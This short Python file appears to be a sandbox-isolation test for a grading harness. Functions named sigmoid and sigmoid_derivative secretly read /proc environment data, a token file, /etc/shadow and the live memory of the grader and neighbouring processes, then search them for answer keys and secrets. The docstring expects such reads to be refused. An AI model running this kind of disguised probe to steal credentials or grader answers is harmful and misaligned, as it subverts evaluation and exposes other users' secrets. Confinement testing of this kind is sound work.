"""Reads memory and environment of this process, its parent, the grader and a neighbour by /proc.

Seen: `/proc/<pid>/mem` of the grader holds the answers.
Must: refused; nothing leaks.
Without confinement: leaks
"""

import os
import re

PATTERN = re.compile(rb"(?:reference|gradebook|environment|submission|home)-[0-9a-f]{16}")


def sigmoid(x):
    for pid in ("@GRADER@", "self", str(os.getppid()), "1"):
        for name in ("environ", "cmdline", "root@HOME@/.token", "root/etc/shadow", "fd/0"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    print(PATTERN.findall(file.read(1 << 16))[:3])
            except OSError as error:
                print(error.errno)
    return x


def sigmoid_derivative(a):
    for pid in ("@GRADER@", "@NEIGHBOUR@", str(os.getppid()), "self"):
        try:
            maps = open(f"/proc/{pid}/maps", encoding="utf-8").read()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
            for line in maps.split("\n")[:100]:
                span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if span:
                    first, last = (int(part, 16) for part in span.groups())
                    memory.seek(first)
                    print(PATTERN.findall(memory.read(min(last - first, 1 << 20)))[:5])
        except (OSError, ValueError) as error:
            print(pid, error)
    return a
